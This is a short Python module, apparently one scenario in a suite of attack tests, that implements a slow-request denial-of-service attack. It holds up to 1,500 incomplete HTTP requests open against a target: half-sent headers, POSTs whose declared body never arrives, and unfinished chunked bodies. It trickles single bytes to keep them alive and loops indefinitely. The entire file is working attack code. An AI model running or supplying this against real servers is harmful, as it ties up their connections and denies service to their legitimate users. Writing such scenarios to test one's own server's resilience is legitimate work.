"""1,500 requests that never end: half a head, half a body, or nothing at all."""

from __future__ import annotations

import asyncio
import random
from urllib.parse import urlsplit

from attacks.strangers import House, Say, Stranger, call

REQUESTS = 1500
EACH = 50


async def attack(house: House, say: Say) -> None:
    host = urlsplit(house.address).netloc
    name = f"POST /api/me HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 50\r\n\r\n"
    halves = [
        b"",
        b"G",
        f"GET /api/tables HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode(),
        name.encode(),
        f"POST /api/verify HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n".encode(),
    ]
    inside: list[Stranger] = []
    luck = random.Random(1)
    opened = 0
    while True:
        inside = [stranger for stranger in inside if not stranger.gone.done()]
        for number in range(min(50, REQUESTS - len(inside))):
            stranger = await call(house, (opened + number) // EACH % 300, halves[number % len(halves)])
            if stranger is not None:
                inside.append(stranger)
        opened += 50
        for stranger in luck.sample(inside, len(inside) // 50):
            if not stranger.transport.is_closing():
                stranger.transport.write(b"x")  # one letter now and then, to seem alive
        say(f"{len(inside)} half-requests")
        await asyncio.sleep(0.1)
